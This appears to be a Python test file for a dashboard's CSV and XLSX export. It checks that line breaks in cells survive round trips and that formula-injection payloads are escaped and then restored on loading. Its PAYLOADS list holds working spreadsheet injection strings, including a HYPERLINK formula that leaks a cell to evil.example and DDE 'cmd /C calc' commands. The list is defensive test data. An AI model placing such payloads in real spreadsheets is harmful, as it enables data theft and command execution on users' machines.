"""Round trips that must give back the text written: line breaks inside cells, and the
formula-injection quote of the dashboard's own export.

(a) A note holding a bare carriage return ("line1\\rline2") once made the bundle's
figures.csv unreadable (the server could not start): written by the bundle writer and by
the export writer, then read by ``read_figures_csv`` and by ``app.loaders.load``, every
cell comes back as written. (b) The export puts ``'`` before a text cell that a
spreadsheet would run (``'=HYPERLINK(...)``); loading the export takes it off again, while a
hand-made CSV keeps its text as written. All rows are MADE UP.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from export_madeup import MADE_UP_FIGURES, made_up_bundle, made_up_figures

from app.bundle.build import _csv_text
from app.bundle.store import read_figures_csv
from app.export.csv_writer import csv_bytes
from app.export.params import ExportParams
from app.export.rows import export_table
from app.export.xlsx_writer import readme_from_datapackage, xlsx_bytes
from app.loaders import load

BREAKS = {
    "note": ["line1\rline2", "line1\nline2", "line1\r\nline2"],
    "document": ["doc\rpart two", "doc\npart two", "doc\r\npart two"],
}


def _rows_with(**cells: list[str]) -> list[dict]:
    rows = [dict(r) for r in MADE_UP_FIGURES]
    for column, values in cells.items():
        for row, value in zip(rows, values, strict=True):
            row[column] = value
    return rows


def _texts(frame, column: str) -> list[str]:  # type: ignore[no-untyped-def]
    return frame.sort_values("figure_id")[column].tolist()


def test_line_breaks_in_cells_survive_the_bundle_writer(tmp_path: Path, ctx) -> None:  # type: ignore[no-untyped-def]
    figures = made_up_figures(_rows_with(**BREAKS))
    path = tmp_path / "figures.csv"
    path.write_bytes(_csv_text(figures).encode("utf-8"))
    back = read_figures_csv(path)
    loaded = load(path, ctx)
    assert loaded.problems == [] and loaded.accepted == 3
    for column, written in BREAKS.items():
        expected = sorted(zip(figures["figure_id"], written, strict=True))
        assert _texts(back, column) == [t for _, t in expected]
        assert _texts(loaded.table, column) == [t for _, t in expected]


def test_line_breaks_in_cells_survive_the_export_writer(tmp_path: Path, bundle, ctx) -> None:  # type: ignore[no-untyped-def]
    table = export_table(made_up_bundle(bundle, _rows_with(**BREAKS)), ExportParams(), [])
    path = tmp_path / "export.csv"
    path.write_bytes(b"".join(csv_bytes(table)))
    loaded = load(path, ctx)
    assert loaded.problems == [] and loaded.accepted == 3
    back = read_figures_csv(path)
    figures = made_up_figures(_rows_with(**BREAKS))
    for column, written in BREAKS.items():
        expected = [t for _, t in sorted(zip(figures["figure_id"], written, strict=True))]
        assert _texts(loaded.table, column) == expected
        assert _texts(back, column) == expected


def test_line_breaks_and_escape_lookalikes_survive_the_xlsx_export(tmp_path: Path, bundle, ctx) -> None:  # type: ignore[no-untyped-def]
    """A bare carriage return is stored as ``_x000D_`` (XML would read it back as a line
    feed) and text that looks like that escape keeps its own underscore (app.ooxml)."""
    texts = {
        "note": ["line1\rline2", "line1\r\nline2", "the text _x000D_ as typed"],
        "document": ["doc\rpart two", "doc\npart two", "_x005F_ and _x41_ and _X000d_"],
    }
    table = export_table(made_up_bundle(bundle, _rows_with(**texts)), ExportParams(), [])
    readme = readme_from_datapackage(bundle.datapackage, [], dt.datetime(2020, 2, 16))
    path = tmp_path / "export.xlsx"
    path.write_bytes(xlsx_bytes(table, readme))
    loaded = load(path, ctx)
    assert loaded.problems == [] and loaded.accepted == 3
    figures = made_up_figures(_rows_with(**texts))
    for column, written in texts.items():
        expected = [t for _, t in sorted(zip(figures["figure_id"], written, strict=True))]
        assert _texts(loaded.table, column) == expected


#: One made-up payload per character that opens a formula (README "Formula injection").
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


CASES = [
    pytest.param(payload, writer, id=f"{writer}-{name}")
    for writer in ("csv", "xlsx")
    for name, payload in zip(["eq", "plus", "minus", "at", "tab", "cr"], PAYLOADS, strict=True)
]


@pytest.mark.parametrize(("payload", "writer"), CASES)
def test_escaped_cells_load_back_as_written(tmp_path: Path, bundle, ctx, payload: str, writer: str) -> None:  # type: ignore[no-untyped-def]
    rows = _rows_with(publisher=[payload, "MADE-UP", "MADE-UP"], note=[payload, None, payload])
    table = export_table(made_up_bundle(bundle, rows), ExportParams(), [])
    path = tmp_path / f"export.{writer}"
    if writer == "csv":
        data = b"".join(csv_bytes(table))
    else:
        readme = readme_from_datapackage(bundle.datapackage, [], dt.datetime(2020, 2, 16))
        data = xlsx_bytes(table, readme)
    path.write_bytes(data)
    if writer == "csv":
        assert ("'" + payload).replace('"', '""').encode() in data  # the writer escaped it
    loaded = load(path, ctx)
    assert loaded.problems == [] and loaded.accepted == 3
    got = loaded.table.set_index("figure_id")
    assert got.loc["madeup0001", "publisher"] == payload
    assert got.loc["madeup0001", "note"] == payload
    assert got.loc["madeup0003", "note"] == payload


def test_a_hand_made_canonical_csv_keeps_its_quote(tmp_path: Path, ctx) -> None:  # type: ignore[no-untyped-def]
    """Only the export's own layout is unescaped: in the bare canonical layout (no ADM or
    flag columns) a leading ' is the author's text."""
    figures = made_up_figures(_rows_with(note=["'=1+1", "'-5", "'@x"]))
    path = tmp_path / "hand_made.csv"
    path.write_bytes(_csv_text(figures).encode("utf-8"))
    loaded = load(path, ctx)
    assert loaded.problems == [] and loaded.accepted == 3
    assert sorted(loaded.table["note"]) == ["'-5", "'=1+1", "'@x"]
